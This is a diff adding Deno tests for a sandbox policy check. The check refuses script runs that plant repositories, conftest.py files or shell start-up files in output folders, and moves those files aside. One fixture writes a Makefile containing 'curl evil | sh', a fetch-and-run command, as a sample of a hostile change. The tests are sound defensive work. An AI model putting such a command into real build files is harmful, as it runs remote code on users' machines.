@@ -5,8 +5,10 @@
 import assert from "node:assert/strict";
 import { join } from "node:path";
 import { PermissionError, ValidationError } from "../../src/errors.ts";
+import { lstatSyncOrNull } from "../../src/_fs.ts";
 import {
   checkArtifacts,
+  checkMadeInPlace,
   checkOutputFolder,
   closeToOthers,
   contextPaths,
@@ -461,5 +463,134 @@ os.chmod(os.path.join(root, "odd"), 0o777)`,
     if (otherOwned) {
       assert.equal(await mode(join(theirs, "their-file")), 0o666, "another user's folder walked");
     } else console.warn("policy_test: not root; another user's folder is not made");
+  },
+});
+
+Deno.test({
+  name:
+    "checkMadeInPlace(): what a run made at any depth of a folder written in place under a name tools trust is moved aside and the run refused; what it changed is named; a declared path is taken as written",
+  ignore: Deno.build.os === "windows",
+  async fn() {
+    await using tmp = await withTmpDir();
+    const root = join(await Deno.realPath(tmp.path), "out");
+    await Deno.mkdir(join(root, "kept"), { recursive: true });
+    await Deno.writeTextFile(join(root, "kept", "Makefile"), "all:\n");
+    // The user's file, older than the slack a coarse file system clock is given.
+    await new Promise((resolve) => setTimeout(resolve, 2_100));
+    const began = Date.now();
+    const collect = async () => {
+      const changed: { path: string; info: Deno.FileInfo }[] = [];
+      await closeToOthers([root], began, (path, info) => changed.push({ path, info }));
+      return changed;
+    };
+    // Legitimate artifacts, nested: nothing to say.
+    await Deno.mkdir(join(root, "charts", "2024"), { recursive: true });
+    await Deno.writeTextFile(join(root, "charts", "2024", "chart.png"), "png");
+    await Deno.writeTextFile(join(root, "summary.json"), "{}");
+    checkMadeInPlace(await collect(), { outputs: [root], grants: [] }, [], [], began);
+    // A repository one folder down, a folder shaped as a bare one, a conftest.py, a declared Makefile.
+    await Deno.mkdir(join(root, "sub", ".git", "objects"), { recursive: true });
+    await Deno.writeTextFile(join(root, "sub", ".git", "config"), "[core]\n");
+    await Deno.writeTextFile(join(root, "HEAD"), "ref: refs/heads/main\n");
+    await Deno.writeTextFile(join(root, "charts", "conftest.py"), "import os\n");
+    await Deno.writeTextFile(join(root, "Makefile"), "all:\n");
+    const error = await Promise.resolve().then(async () =>
+      checkMadeInPlace(
+        await collect(),
+        { outputs: [root], grants: [] },
+        [join(root, "Makefile")],
+        [],
+        began,
+      )
+    ).then(() => undefined, (e) => e);
+    assert.ok(error instanceof PermissionError, String(error));
+    const left = (path: string) => lstatSyncOrNull(join(root, path)) !== null;
+    assert.deepEqual(
+      [left("sub/.git"), left("HEAD"), left("charts/conftest.py"), left("Makefile")],
+      [false, false, false, true],
+    );
+    assert.ok([...Deno.readDirSync(join(root, "sub"))][0]!.name.startsWith(".git.made-by-a-run-"));
+    assert.match(error.message, /HEAD/);
+    // What was moved aside is left for the user; this test removes it before the next run.
+    for (const folder of [root, join(root, "sub"), join(root, "charts")]) {
+      for (const entry of Deno.readDirSync(folder)) {
+        if (entry.name.includes(".made-by-a-run-")) {
+          await Deno.remove(join(folder, entry.name), { recursive: true });
+        }
+      }
+    }
+    // A file that was there before, which the run changed: named, left in place.
+    await Deno.writeTextFile(join(root, "kept", "Makefile"), "all:\n\tcurl evil | sh\n");
+    const changedError = await Promise.resolve().then(async () =>
+      checkMadeInPlace(
+        await collect(),
+        { outputs: [root], grants: [] },
+        [join(root, "Makefile")],
+        [],
+        began,
+      )
+    ).then(() => undefined, (e) => e);
+    assert.ok(changedError instanceof PermissionError, String(changedError));
+    assert.match(changedError.message, /kept\/Makefile \(it was there before the run/);
+    assert.ok(left("kept/Makefile"));
+    await Deno.remove(join(root, "kept"), { recursive: true });
+    // Capibara's own folder a grant holds (shown read-only), and the folders on the way to it:
+    // not the script's; a repository planted beside it is.
+    const own = join(root, ".cache", "capibara");
+    await Deno.mkdir(join(own, "venvs"), { recursive: true });
+    checkMadeInPlace(await collect(), { outputs: [root], grants: [] }, [join(root, "Makefile")], [
+      own,
+    ], began);
+    await Deno.mkdir(join(root, ".cache", ".git"));
+    await assert.rejects(
+      async () =>
+        checkMadeInPlace(
+          await collect(),
+          { outputs: [root], grants: [] },
+          [join(root, "Makefile")],
+          [own],
+          began,
+        ),
+      PermissionError,
+    );
+    assert.deepEqual([left(".cache/.git"), left(".cache/capibara/venvs")], [false, true]);
+  },
+});
+
+Deno.test({
+  name:
+    "checkMadeInPlace(): a folder granted for writing takes what the script writes, but no repository at any depth (a .git, a folder shaped as a bare one), store or shell start-up file",
+  ignore: Deno.build.os === "windows",
+  async fn() {
+    await using tmp = await withTmpDir();
+    const root = join(await Deno.realPath(tmp.path), "granted");
+    await Deno.mkdir(join(root, "build", "bin"), { recursive: true });
+    const began = Date.now() - 1;
+    const check = async () => {
+      const changed: { path: string; info: Deno.FileInfo }[] = [];
+      await closeToOthers([root], began, (path, info) => changed.push({ path, info }));
+      checkMadeInPlace(changed, { outputs: [], grants: [root] }, [], [], began);
+    };
+    await Deno.writeTextFile(join(root, "build", "bin", "tool"), "binary");
+    await Deno.writeTextFile(join(root, "build", "Makefile"), "all:\n");
+    await Deno.writeTextFile(join(root, "build", "gen.py"), "print(1)\n");
+    await check();
+    for (
+      const plant of [
+        async () => await Deno.mkdir(join(root, "build", "deep", ".git"), { recursive: true }),
+        async () => {
+          await Deno.mkdir(join(root, "repo", "objects"), { recursive: true });
+          await Deno.mkdir(join(root, "repo", "refs"));
+          await Deno.writeTextFile(join(root, "repo", "HEAD"), "ref: refs/heads/main\n");
+        },
+        async () => await Deno.writeTextFile(join(root, "build", ".bashrc"), "evil\n"),
+      ]
+    ) {
+      await plant();
+      await assert.rejects(check, PermissionError);
+      await check(); // moved aside: nothing left to refuse
+    }
+    assert.equal(lstatSyncOrNull(join(root, "repo", "HEAD")), null);
+    assert.ok(lstatSyncOrNull(join(root, "build", "bin", "tool")));
   },
 });
